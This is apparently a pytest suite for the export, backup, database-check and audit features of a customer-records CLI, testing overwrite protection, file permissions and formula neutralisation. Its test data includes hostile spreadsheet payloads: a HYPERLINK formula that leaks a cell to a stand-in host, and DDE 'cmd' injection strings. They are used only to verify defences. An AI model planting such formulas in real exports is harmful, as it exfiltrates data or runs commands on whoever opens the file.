"""Files vip writes cannot destroy anything, and what they hold cannot attack (§12, §13).

Exports and backups never go over an existing file without --force and never over the
database or its -wal/-shm/-journal even with it; missing folders are made 0700, files
0600; spreadsheet cells are never formulas and carry no control characters. Also here:
`vip db check`, the database file made 0600, `--db ""`, and the branch head's audit log.
"""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import stat
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from tests import factories
from tests.factories import open_sqlite as _open
from vipcli.db import models

FORMULAS = [
    '=HYPERLINK("http://x/?a="&A1,"c")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
]


@pytest.fixture
def outlet(engine, monkeypatch):
    monkeypatch.setenv("VIP_TODAY", "2026-11-27")
    factories.org(engine)
    factories.customer(engine, "C1", manager_id="M1", name="歐陽明")
    return engine


@pytest.fixture
def sqlite_only(db_url):
    if "://" in db_url:
        pytest.skip("files beside the database: SQLite only")
    return Path(db_url)


@pytest.fixture
def in_use(outlet, sqlite_only):
    """The database as another vip process holds it: open, its -wal and -shm beside it."""
    conn = sqlite3.connect(sqlite_only)
    conn.execute("PRAGMA journal_mode=WAL")
    conn.execute("SELECT count(*) FROM customers").fetchone()
    assert Path(f"{sqlite_only}-wal").exists() and Path(f"{sqlite_only}-shm").exists()
    yield sqlite_only
    conn.close()


def _refused(result, *words: str) -> None:
    assert result.code == 1, result.err
    assert result.out == ""
    lines = result.err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), result.err
    for word in words:
        assert word in result.err


def _exports(engine) -> int:
    with engine.connect() as conn:
        return conn.execute(select(func.count()).select_from(models.AuditLog)
                            .where(models.AuditLog.action.in_(("export", "backup")))).scalar_one()


def _actor(command: list[str]) -> str:
    """Who may run it: the branch head exports its outlet; only the operator backs up (§13)."""
    return "OP1" if command == ["backup"] else "H1"


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


# -- never over an existing file ---------------------------------------------------------------


@pytest.mark.parametrize("command", [["export", "customers", "--output"], ["backup"]])
def test_an_existing_file_is_never_replaced_without_force(outlet, vip, tmp_path, db_url, command):
    if command == ["backup"] and "://" in db_url:
        pytest.skip("vip backup copies SQLite files")
    target = tmp_path / "keep.csv"
    target.write_text("the outlet's own notes\n", encoding="utf-8")
    _refused(vip("--as", _actor(command), *command, str(target)), "already exists", "--force")
    assert target.read_text(encoding="utf-8") == "the outlet's own notes\n"
    assert _exports(outlet) == 0, "a refused export or backup was audited"
    replaced = vip("--as", _actor(command), *command, str(target), "--force")
    assert replaced.code == 0, replaced.err
    assert target.read_bytes() != b"the outlet's own notes\n"
    assert _mode(target) == 0o600
    assert [p.name for p in tmp_path.iterdir() if ".partial" in p.name] == []


def _database_names(db: Path, tmp_path: Path) -> dict[str, Path]:
    link = tmp_path / "link.db"
    link.symlink_to(db)
    dangling = tmp_path / "dangling"
    dangling.symlink_to(Path(f"{db}-journal"))  # a journal that does not exist (yet)
    hard = tmp_path / "hard.db"
    os.link(db, hard)
    (tmp_path / "sub").mkdir()
    return {"itself": db, "wal": Path(f"{db}-wal"), "shm": Path(f"{db}-shm"),
            "journal": Path(f"{db}-journal"), "symlink": link, "dangling symlink": dangling,
            "hard link": hard, "relative": Path("..") / db.name, "home": Path("~") / db.name}


@pytest.mark.parametrize("name", ["itself", "wal", "shm", "journal", "symlink", "dangling symlink",
                                  "hard link", "relative", "home"])
@pytest.mark.parametrize("command", [["export", "customers", "--output"], ["backup"]])
def test_the_database_is_never_written_over_even_with_force(outlet, vip, in_use, tmp_path,
                                                            monkeypatch, command, name):
    target = _database_names(in_use, tmp_path)[name]
    monkeypatch.chdir(tmp_path / "sub")
    monkeypatch.setenv("HOME", str(in_use.parent))
    before = {p: p.read_bytes() for p in (in_use, Path(f"{in_use}-wal"))}
    _refused(vip("--as", _actor(command), *command, str(target), "--force"), "database file",
             "not even with --force")
    assert {p: p.read_bytes() for p in before} == before
    assert not Path(f"{in_use}-journal").exists()
    with _open(in_use) as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        assert conn.execute("SELECT customer_id FROM customers").fetchall() == [("C1",)]
    assert _exports(outlet) == 0


def test_missing_folders_are_made_owner_only(outlet, vip, tmp_path, monkeypatch):
    os.umask(0o022)  # the usual umask would leave a new folder 0755
    target = tmp_path / "exports" / "2026" / "customers.csv"
    result = vip("--as", "H1", "export", "customers", "--output", str(target))
    assert result.code == 0, result.err
    assert _mode(tmp_path / "exports") == 0o700 and _mode(tmp_path / "exports" / "2026") == 0o700
    assert _mode(target) == 0o600


def test_a_refused_export_makes_no_folder(outlet, vip, tmp_path):
    target = tmp_path / "new" / "due.csv"
    _refused(vip("--as", "OP1", "export", "customers", "--output", str(target)))
    assert not (tmp_path / "new").exists()


# -- cells are data, never formulas ------------------------------------------------------------


@pytest.fixture
def hostile(outlet):
    for n, name in enumerate([*FORMULAS, "王\x1b[31m紅\x07", "張\r\n三"], start=2):
        factories.customer(outlet, f"C{n}", manager_id="M1", name=name)
    return outlet


def _names(rows: list[dict]) -> dict[str, str]:
    return {r["customer_id"]: r["name"] for r in rows}


def test_csv_cells_that_begin_like_a_formula_get_a_leading_quote(hostile, vip, tmp_path):
    target = tmp_path / "c.csv"
    assert vip("--as", "H1", "export", "customers", "--output", str(target)).code == 0
    names = _names(list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8-sig")))))
    for n, formula in enumerate(FORMULAS, start=2):
        assert names[f"C{n}"] == "'" + formula, formula
    assert names["C1"] == "歐陽明"  # ordinary text untouched
    assert names[f"C{len(FORMULAS) + 2}"] == "王[31m紅"  # ESC and BEL removed
    assert names[f"C{len(FORMULAS) + 3}"] == "張\n三"  # CR removed, the line break kept
    raw = target.read_bytes()
    assert b"\x1b" not in raw and b"\x07" not in raw


def test_xlsx_cells_are_strings_never_formulas_and_esc_does_not_break_the_export(hostile, vip,
                                                                                tmp_path):
    target = tmp_path / "c.xlsx"
    result = vip("--as", "H1", "export", "customers", "--format", "xlsx", "--output", str(target))
    assert result.code == 0, result.err
    sheet = load_workbook(target).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.value for c in cells if c.data_type == "f"] == []
    header = [c.value for c in next(sheet.iter_rows())]
    rows = [dict(zip(header, (c.value for c in row), strict=True))
            for row in list(sheet.iter_rows())[1:]]
    names = _names(rows)
    for n, formula in enumerate(FORMULAS, start=2):
        assert names[f"C{n}"] == formula  # the text itself, typed as a string
    quoted = {c.value for c in cells if c.quotePrefix}
    assert set(FORMULAS) <= quoted and "歐陽明" not in quoted
    assert names[f"C{len(FORMULAS) + 2}"] == "王[31m紅"


def test_a_negative_amount_is_a_number_not_a_neutralised_formula():
    from vipcli.services.core.cells import formula_like

    assert not formula_like("-1234.00") and not formula_like("-5")
    assert formula_like("-1+1") and formula_like("=1") and formula_like("\t1")


def test_json_export_is_the_document_unchanged(hostile, vip, tmp_path):
    target = tmp_path / "c.json"
    assert vip("--as", "H1", "export", "customers", "--format", "json", "--output",
               str(target)).code == 0
    assert _names(json.loads(target.read_text(encoding="utf-8")))["C2"] == FORMULAS[0]


# -- backup ----------------------------------------------------------------------------------


def test_backup_is_one_checked_owner_only_file(outlet, vip, sqlite_only, tmp_path):
    target = tmp_path / "backups" / "vip.db"
    result = vip("--as", "OP1", "backup", str(target), "--json")
    assert result.code == 0, result.err
    assert result.json() == {"file": str(target), "revision": result.json()["revision"],
                             "audit": {"latest_id": 0, "latest_hash": "0" * 64}}  # an empty log
    assert _mode(target) == 0o600 and _mode(target.parent) == 0o700
    assert sorted(p.name for p in target.parent.iterdir()) == ["vip.db"]  # no -wal beside it
    with _open(f"file:{target}?mode=ro", uri=True) as conn:
        assert conn.execute("PRAGMA journal_mode").fetchone() == ("delete",)
        assert conn.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        assert conn.execute("SELECT customer_id FROM customers").fetchall() == [("C1",)]


def test_backup_and_restore_on_postgresql_show_the_command_with_the_password_masked(vip, tmp_path):
    url = "postgresql://vip:s3cret@db.example.internal:5432/outlet"
    for command, tool in (("backup", "pg_dump"), ("restore", "pg_restore")):
        result = vip("--as", "OP1", command, str(tmp_path / "outlet.dump"), db=url)
        _refused(result, tool, "postgresql://vip:***@db.example.internal:5432/outlet",
                 str(tmp_path / "outlet.dump"))
        assert "s3cret" not in result.err


# -- vip db check ----------------------------------------------------------------------------


def test_db_check_healthy_is_exit_0_with_the_document(outlet, vip, db_url):
    result = vip("db", "check", "--json")
    assert result.code == 0, result.out + result.err
    doc = result.json()
    assert {"ok", "integrity", "foreign_keys", "audit"} <= set(doc)
    assert doc["ok"] is True and doc["schema"]["ok"] is True and doc["problems"] == []
    if "://" not in db_url:
        assert doc["integrity"] == [] and doc["foreign_keys"] == []


def test_db_check_names_a_broken_foreign_key_exit_1(outlet, vip, sqlite_only):
    with _open(sqlite_only) as conn:  # foreign keys are off on a plain connection
        conn.execute("UPDATE customers SET manager_id = 'GONE' WHERE customer_id = 'C1'")
    result = vip("db", "check", "--json")
    assert result.code == 1
    doc = result.json()
    assert doc["ok"] is False and doc["integrity"] == []
    assert doc["foreign_keys"][0]["table"] == "customers" and doc["foreign_keys"][0]["parent"] == "staff"
    text = vip("db", "check")
    assert text.code == 1 and "foreign key: customers row" in text.out


def test_db_check_of_a_damaged_or_missing_file_is_exit_1_never_a_traceback(vip, tmp_path):
    garbage = tmp_path / "garbage.db"
    garbage.write_bytes(b"SQLite format 3\x00" + os.urandom(8192))
    result = vip("db", "check", "--json", db=str(garbage))
    assert result.code == 1 and "Traceback" not in result.err
    assert result.json()["ok"] is False and result.json()["integrity"]
    missing = tmp_path / "missing.db"
    result = vip("db", "check", db=str(missing))
    assert result.code == 1 and "does not exist" in result.out
    assert not missing.exists(), "db check created the database it checks"


def test_db_check_of_a_database_newer_than_vip_is_a_problem(outlet, vip):
    from sqlalchemy import text

    with outlet.begin() as conn:
        conn.execute(text("UPDATE alembic_version SET version_num = 'zz99'"))
    result = vip("db", "check", "--json")
    assert result.code == 1 and result.json()["schema"] == {"current": "zz99", "head":
                                                            result.json()["schema"]["head"],
                                                            "ok": False}


# -- smaller mends ---------------------------------------------------------------------------


def test_an_existing_database_readable_by_others_is_made_owner_only(vip, in_use):
    for path in (in_use, Path(f"{in_use}-wal"), Path(f"{in_use}-shm")):
        os.chmod(path, 0o644)
    assert vip("--as", "H1", "customers").code == 0
    for path in (in_use, Path(f"{in_use}-wal"), Path(f"{in_use}-shm")):
        assert _mode(path) == 0o600, path


def test_in_a_setgid_folder_the_group_keeps_its_access_and_others_lose_theirs(tmp_path):
    """§13's outlet server: one OS account per member of staff, the database shared by their
    group in a setgid folder; opening it must not lock the group out (0600 would)."""
    from vipcli.db.engine import _owner_only

    shared = tmp_path / "shared"
    shared.mkdir()
    os.chmod(shared, 0o2770)
    database = shared / "vip.db"
    database.write_bytes(b"")
    os.chmod(database, 0o664)
    _owner_only(database)
    assert _mode(database) == 0o660
    private = tmp_path / "vip.db"
    private.write_bytes(b"")
    os.chmod(private, 0o664)
    _owner_only(private)
    assert _mode(private) == 0o600


def test_an_empty_db_option_is_refused_not_the_default(vip, monkeypatch, _isolated_home):
    from vipcli.cli.app import run

    for args in (["--db", "", "db", "current"], ["--db", "  ", "db", "current"]):
        assert run(args) == 1
    monkeypatch.setenv("VIP_DB", "")
    assert run(["db", "current"]) == 1
    assert not (_isolated_home / "vip.db").exists(), "the default database was used"


def test_an_empty_db_option_says_which(capsys):
    from vipcli.cli.app import run

    assert run(["--db", "", "db", "current"]) == 1
    assert capsys.readouterr().err.strip() == (
        "error: --db is empty: give a database file or URL, or leave --db out for the default")


@pytest.fixture
def two_outlets(outlet):
    from vipcli.db.engine import writing
    from vipcli.services.core.audit import audit

    factories.customer(outlet, "C9", manager_id="M4", branch_id="O002", name="周九")
    entries = [("M1", "reveal", "C1"), ("M4", "reveal", "C9"), ("OP1", "import", None),
               ("M1", "export", None), ("H2", "backup", None), ("OP1", "sign", "C1"),
               ("L1", "lobby_lookup", "C9")]
    with writing(outlet).begin() as conn:  # through the writer: entries are links of the chain (§13)
        for actor, action, customer in entries:
            audit(conn, actor, action, customer)
    return outlet


def test_a_branch_head_sees_its_own_outlets_audit_entries_only(two_outlets, vip):
    seen = {(e["actor_id"], e["action"], e["customer_id"])
            for e in vip("--as", "H1", "audit", "--json").json()}
    # Anything about its customers (an operator's too); its staff's that name no customer.
    assert seen == {("M1", "reveal", "C1"), ("M1", "export", None), ("OP1", "sign", "C1")}
    assert vip("--as", "H1", "audit", "--customer", "C9", "--json").json() == []
    other = {(e["actor_id"], e["action"], e["customer_id"])
             for e in vip("--as", "H2", "audit", "--json").json()}
    assert ("L1", "lobby_lookup", "C9") in other and ("H2", "backup", None) in other
    assert ("H1", "audit_read", "C9") in other  # H1 asking about C9 is C9's outlet's business
    everything = vip("--as", "OP1", "audit", "--limit", "100", "--json").json()
    assert len(everything) == 7 + 3  # the seven, and the three reads above


@pytest.mark.parametrize("limit", ["0", "-1", "10000000000000000000"])
def test_an_out_of_range_audit_limit_is_a_clear_refusal(outlet, vip, limit):
    _refused(vip("--as", "OP1", "audit", "--limit", limit), "--limit")
